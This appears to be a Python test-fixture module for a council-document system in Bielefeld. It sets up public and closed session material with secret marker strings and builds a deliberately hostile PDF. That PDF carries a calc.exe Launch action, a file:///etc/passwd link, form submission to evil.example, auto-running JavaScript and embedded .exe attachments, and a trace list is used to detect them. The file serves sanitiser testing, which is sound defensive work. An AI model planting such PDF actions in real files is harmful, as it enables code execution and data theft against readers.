"""A session of the Bielefeld Rat with closed material, shared by the session and OParl tests.

A public Vorlage with one closed Anlage, a closed Vorlage with a closed Anlage, and seed 002.
Each closed part carries a marker text that must never reach anything public. The public
Lageplan is also a hostile PDF (`hostile_pdf`): nothing active in it may reach any output.
"""

import io
import re
import shutil
import zlib

from helpers import REPO, helvetica_pdf

MARKER_VORLAGE = "Geheimvermerk Kranich-7Q4Z im Sachverhalt"
MARKER_TITEL = "Kaufpreisliste Reiher-3M8K"
MARKER_ANLAGE = "Bieterliste Storch-5X2P vertraulich"
MARKER_GEHEIMANLAGE = "Gutachten Ibis-9T6W Bodenwert"

PUBLIC = """\
hausstil: bielefeld
vorlagenart: Beschlussvorlage
amt: Amt für Tests
datum: 01.08.2020
beratungsfolge:
  - gremium: Rat der Stadt Bielefeld
    sitzung: 03.09.2020
    zustaendigkeit: Entscheidung
betreff: Neubau einer Turnhalle
beschlussvorschlag: Der Rat beschließt den Neubau.
begruendung: |
  Die alte Halle ist baufällig.
anlagen:
  - titel: Lageplan
    datei: anlagen/lageplan.pdf
  - titel: {titel}
    datei: anlagen/bieter.pdf
    oeffentlich: nein
  - titel: Kostenschätzung
    datei: anlagen/kosten.pdf
"""

CLOSED = """\
hausstil: bielefeld
vorlagenart: Beschlussvorlage
oeffentlich: nein
amt: Amt für Tests
datum: 01.08.2020
beratungsfolge:
  - gremium: Rat der Stadt Bielefeld
    sitzung: 03.09.2020
    oeffentlich: nein
    zustaendigkeit: Entscheidung
betreff: Grundstücksangelegenheit Testweg
beschlussvorschlag: Der Rat stimmt dem Verkauf zu.
begruendung: |
  {marker}
anlagen:
  - titel: Gutachten
    datei: anlagen/gutachten.pdf
    oeffentlich: nein
"""

SESSION = """\
hausstil: bielefeld
gremium: Rat der Stadt Bielefeld
datum: 03.09.2020
uhrzeit: "15:00"
ort: Großer Saal
einladungsdatum: 20.08.2020
oeffentlicher_teil:
  - titel: Eröffnung
  - titel: Mitteilungen
    unterpunkte:
      - titel: Bericht
      - vorlage: drafts/turnhalle.yaml
  - vorlage: drafts/bielefeld-kim.yaml
nichtoeffentlicher_teil:
  - vorlage: drafts/grundstueck.yaml
"""


# The same session after it met: attendance, and a result on every Vorlage, the closed one
# with a vermerk that belongs to the closed part as much as its Vorlage does.
SESSION_RESULTS = SESSION.replace("oeffentlicher_teil:", """\
beginn: "15:02"
ende: "17:45"
schriftfuehrung: Silke Dienst
anwesenheit:
  - Anna Vorsitz
  - {name: Bernd Beispiel, ab: Ö 2}
  - {name: Clara Muster, status: entschuldigt}
oeffentlicher_teil:""", 1).replace("      - vorlage: drafts/turnhalle.yaml\n", """\
      - vorlage: drafts/turnhalle.yaml
        ergebnis: {status: beschlossen, abstimmung: {ja: 2}}
""").replace("  - vorlage: drafts/bielefeld-kim.yaml\n", """\
  - vorlage: drafts/bielefeld-kim.yaml
    ergebnis: vertagt
""").replace("  - vorlage: drafts/grundstueck.yaml\n", f"""\
  - vorlage: drafts/grundstueck.yaml
    ergebnis:
      status: geändert beschlossen
      text: Der Rat stimmt dem Verkauf an den zweiten Bieter zu.
      vermerk: "Notiz: {MARKER_VORLAGE}"
""")


def make_session_project(project):
    drafts = project.drafts_dir
    shutil.copy(REPO / "drafts" / "bielefeld-kim.yaml", drafts)
    (drafts / "anlagen").mkdir()
    shutil.copy(REPO / "drafts" / "anlagen" / "kim-umsetzung-bielefeld.pdf", drafts / "anlagen")
    hostile_pdf(drafts / "anlagen" / "lageplan.pdf", "Lageplan der Turnhalle")
    helvetica_pdf(drafts / "anlagen" / "kosten.pdf", "Kostenschaetzung 1,2 Mio")
    helvetica_pdf(drafts / "anlagen" / "bieter.pdf", MARKER_ANLAGE)
    helvetica_pdf(drafts / "anlagen" / "gutachten.pdf", MARKER_GEHEIMANLAGE)
    (drafts / "turnhalle.yaml").write_text(PUBLIC.format(titel=MARKER_TITEL), encoding="utf-8")
    (drafts / "grundstueck.yaml").write_text(CLOSED.format(marker=MARKER_VORLAGE),
                                             encoding="utf-8")
    (project.root / "sitzungen").mkdir()
    (project.root / "sitzungen" / "rat.yaml").write_text(SESSION, encoding="utf-8")
    return project


def all_bytes(path) -> bytes:
    """The file's raw bytes plus every stream decompressed."""
    raw = path.read_bytes()
    out = [raw]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", raw, re.S):
        try:
            out.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(out)


# What must be gone from a sanitised copy of `hostile_pdf`, searched in raw and decompressed
# bytes (names, scripts, the embedded programs' names, the remote targets).
HOSTILE_TRACES = (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/Rendition", b"/EmbeddedFile",
                  b"/FileAttachment", b"/XFA", b"app.alert", b"calc.exe", b"virus.exe",
                  b"anhang.exe", b"file:", b"evil.example")


def hostile_pdf(path, text, embedded_font=False):
    """A two-page PDF showing `text` that carries what an attacker can put into an Anlage:
    a Launch link, a `file://` link, a Screen annotation with a Rendition action running a
    JavaScript stream (`/JS 12 0 R`), link actions whose /Next chain ends in SubmitForm and
    JavaScript, a form field with /AA and a SubmitForm action (plus XFA), a file-attachment
    annotation and an embedded `.exe`, JavaScript on opening, in the catalog's and a page's
    /AA and in the /Names tree. Beside them what a reader needs: a GoTo link to page 2, a link
    to a named destination, an https and a mailto link, an outline and page labels.
    `embedded_font`: text in embedded Liberation Sans, so a final takes it without OCR."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    font = "Helvetica"
    if embedded_font:
        from reportlab.pdfbase import pdfmetrics
        from reportlab.pdfbase.ttfonts import TTFont

        font = "Liberation"
        pdfmetrics.registerFont(TTFont(font, "/usr/share/fonts/truetype/liberation/"
                                             "LiberationSans-Regular.ttf"))
    c = canvas.Canvas(buffer, initialFontName=font)  # else Helvetica is listed all the same
    c.drawString(72, 700, text)
    c.showPage()
    c.drawString(72, 700, "Zweite Seite")
    c.save()
    pdf = pikepdf.open(io.BytesIO(buffer.getvalue()))
    first, second = pdf.pages[0].obj, pdf.pages[1].obj

    def js(code):
        return Dictionary(S=Name.JavaScript, JS=String(code))

    def annot(subtype, y, **keys):
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=subtype, F=4,
                                            Rect=[72, y, 300, y + 14], Border=[0, 0, 0], **keys))

    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/sammeln"))
    script = pdf.make_stream(b"app.alert('Rendition')")
    page_font = next(iter(first.Resources.Font.values()))
    look = pdf.make_stream(b"0.9 g 0 0 228 14 re f 0 g BT /F 10 Tf 2 3 Td (Feldwert 42) Tj ET",
                           Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 228, 14],
                           Resources=Dictionary(Font=Dictionary(F=page_font)))
    field = annot(Name.Widget, 300, FT=Name.Tx, T=String("betrag"), V=String("Feldwert 42"),
                  P=first, AP=Dictionary(N=look), A=submit,
                  AA=Dictionary(K=js("app.alert('Taste')"), F=js("app.alert('Format')")))
    attachment = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 anhang", filename="anhang.exe")
    first.Annots = Array([
        annot(Name.Link, 680, A=Dictionary(S=Name.Launch, F=String("calc.exe"),
                                           Win=Dictionary(F=String("calc.exe")))),
        annot(Name.Link, 660, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        annot(Name.Link, 640, A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]),
                                           Next=Array([submit, js("app.alert('Kette')")]))),
        annot(Name.Link, 620, A=Dictionary(
            S=Name.URI, URI=String("https://www.bielefeld.de/"),
            Next=Dictionary(S=Name.Named, N=Name.NextPage, Next=js("app.alert('Ende')")))),
        annot(Name.Link, 600, A=Dictionary(S=Name.URI, URI=String("mailto:rat@example.org"))),
        annot(Name.Link, 580, Dest=String("zweite-seite")),
        annot(Name.Screen, 560, A=Dictionary(S=Name.Rendition, OP=0, JS=script)),
        annot(Name.FileAttachment, 540, FS=attachment.obj, Contents=String("Anhang")),
        field])
    first.AA = Dictionary(O=js("app.alert('Seite')"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(
        b"<xdp:xdp><script>app.alert('XFA')</script></xdp:xdp>"))
    pdf.Root.OpenAction = js("app.alert('Start')")
    pdf.Root.AA = Dictionary(WC=js("app.alert('Schliessen')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(js(
            "app.alert('Namen')"))])),
        Dests=Dictionary(Names=Array([String("zweite-seite"), Array([second, Name.Fit])])))
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 virus",
                                                            filename="virus.exe")
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.r)]))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Zweite Seite", 1))
        outline.root.append(pikepdf.OutlineItem("Rechner", action=Dictionary(
            S=Name.Launch, F=String("calc.exe"))))
    pdf.save(path)
